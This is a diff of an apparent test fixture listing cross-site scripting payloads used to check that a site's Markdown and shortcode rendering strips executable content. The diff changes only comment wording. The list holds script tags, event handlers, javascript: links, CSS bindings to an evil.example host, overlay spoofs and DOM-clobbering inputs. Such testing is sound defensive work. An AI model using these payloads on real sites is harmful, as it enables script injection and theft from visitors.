@@ -1,8 +1,8 @@
 import { FORMULA_PAYLOADS } from './xss-formulas.ts';
 
 /**
- * Ways in which people have put script into pages that were meant to hold text. Each one goes through Markdown,
- * every field of every shortcode and the fields of the JSON files; nothing that acts may come out at the other end.
+ * Known ways to inject script into pages of text. Each one is tried in Markdown, every field of every
+ * shortcode and the fields of the JSON files; no output may be executable.
  */
 export const XSS_PAYLOADS: readonly string[] = [
   // Script elements, plain and disguised.
@@ -72,7 +72,7 @@ export const XSS_PAYLOADS: readonly string[] = [
   '<figure data-video="vimeo" data-video-id="1" onclick="alert(1)"></figure>',
   '<code onclick=alert(1)>x</code>',
   '<pre onclick=alert(1)><code class="language-java" onclick=alert(1)>x</code></pre>',
-  // Addresses that act.
+  // Script addresses.
   '<a href="javascript:alert(1)">x</a>',
   '<a href="JaVaScRiPt:alert(1)">x</a>',
   '<a href=" javascript:alert(1)">x</a>',
@@ -107,7 +107,7 @@ export const XSS_PAYLOADS: readonly string[] = [
   '<q cite="javascript:alert(1)">x</q>',
   '<body background="javascript:alert(1)">',
   '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
-  // The same in Markdown's own spelling.
+  // The same in Markdown syntax.
   '[x](javascript:alert(1))',
   '[x](JAVASCRIPT:alert(1))',
   '[x](javascript&colon;alert(1))',
@@ -187,7 +187,7 @@ export const XSS_PAYLOADS: readonly string[] = [
   '<div style="width:expression(alert(1))">x</div>',
   '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>',
   '<div class="fixed inset-0 z-50">false page</div>',
-  // Foreign documents and parser differences.
+  // Foreign content and parser differences.
   '<svg onload=alert(1)>',
   '<svg><script>alert(1)</script></svg>',
   '<svg><script href="data:text/javascript,alert(1)"/></svg>',
@@ -220,7 +220,7 @@ export const XSS_PAYLOADS: readonly string[] = [
   '<image src=x onerror=alert(1)>',
   '<picture><source srcset="x" onerror=alert(1)><img src=x onerror=alert(1)></picture>',
   '<track src="javascript:alert(1)" onerror=alert(1)>',
-  // Names that take over the page's own.
+  // DOM clobbering.
   '<a id="location" name="location" href="https://evil.example">x</a>',
   '<img name="getElementById" src="https://example.org/x.png">',
   '<form id="document"><input name="cookie"></form>',
